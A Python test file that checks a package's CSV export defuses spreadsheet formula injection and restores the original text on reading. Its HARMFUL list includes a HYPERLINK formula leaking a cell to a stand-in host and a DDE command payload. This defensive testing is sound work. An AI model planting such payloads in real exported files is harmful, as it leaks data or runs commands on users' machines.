"""Texts that a spreadsheet would run: defused wherever a table leaves, and brought back by whoever reads it."""

from __future__ import annotations

import re
from io import StringIO

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as st

import vanas_panel as vp
from tests.demo_tables import formula_session, formulas_in
from vanas_panel.report.exports import EXPORTS, exported
from vanas_panel.report.tables import csv, read_csv
from vanas_panel.text.spreadsheet_formulas import defused, original

HARMFUL = ['=HYPERLINK("http://evil.example?"&A1)', "+1+1", "-1+cmd|' /C calc'!A0", "@SUM(1)", "\tx", "\rx", "\n=1",
           "＝1", "＋1", "－1", "＠x", "'=1", "''+1", "a;=1", "a\t=1", "-0.5"]
HARMLESS = ["conv3x3-bn-relu", "a=b", "x-1", "'tis", "", "0-1 1-2", "ﬁ", "a b", "'"]


@pytest.mark.parametrize("text", HARMFUL)
def test_a_formula_becomes_text_and_comes_back(text):
    safe = defused(text)
    assert safe != text
    assert safe.startswith("'") == (text[0] in "=+-@\t\r\n＝＋－＠'")
    assert not any(part[:1] in tuple("=+-@") for part in re.split("[;\t]", safe))
    assert original(safe) == text


@pytest.mark.parametrize("text", HARMLESS)
def test_text_that_is_no_formula_is_unchanged(text):
    assert defused(text) == original(text) == text


@given(st.text("=+-@'\t\r\n;a", max_size=12))
def test_every_text_comes_back(text):
    assert original(defused(text)) == text


@pytest.mark.parametrize("name", [name for name, export in EXPORTS.items() if "csv" in export.kinds])
def test_no_file_that_leaves_holds_a_formula(name):
    session = formula_session()
    text = exported(session, name, "csv")
    assert formulas_in(text) == []
    names = {name for column in read_csv(text).items() for name in (column[0], *column[1]) if isinstance(name, str)}
    assert names & {"+1", "=cmd|' /C calc'!A0", "\rx", "=loss", "-gain"}


def test_numbers_stay_numbers_and_names_are_whole_after_reading():
    frame = pd.DataFrame({"=name": HARMFUL, "value": np.linspace(-1e-7, -0.5, len(HARMFUL))})
    text = csv(frame)
    pd.testing.assert_frame_equal(read_csv(text), frame.astype({"=name": read_csv(text)["=name"].dtype}))
    assert pd.read_csv(StringIO(text, newline=""))["value"].dtype == np.float64


def test_a_table_reads_names_that_were_defused(tmp_path):
    path = tmp_path / "again.csv"
    path.write_text(csv(pd.DataFrame({"adjacency": ["010001000", "0100"], "operations": ["input,=1;+2,output",
                                                                                         "input,output"],
                                      "=loss": [0.5, -0.25], "-gain": [1.5, 2.5], "dataset": ["=x", "=x"]})))
    assert "'=loss" in path.read_text() and ";'+2" in path.read_text()
    table = vp.open_table(path)
    assert list(table.metrics) == ["=loss", "-gain"]
    assert table.space.operations == ("=1;+2",)
    assert table.column("=loss").tolist() == [0.5, -0.25]
